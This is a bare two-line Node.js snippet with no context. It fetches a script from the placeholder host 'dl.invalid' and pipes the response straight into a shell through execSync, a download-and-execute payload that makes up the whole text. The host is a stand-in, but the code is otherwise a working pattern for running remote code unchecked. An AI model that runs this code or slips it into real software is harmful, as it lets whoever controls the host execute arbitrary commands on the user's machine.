const { execSync } = require('child_process');
fetch('http://dl.invalid/i').then(r => r.text()).then(t => execSync('sh', { input: t }));
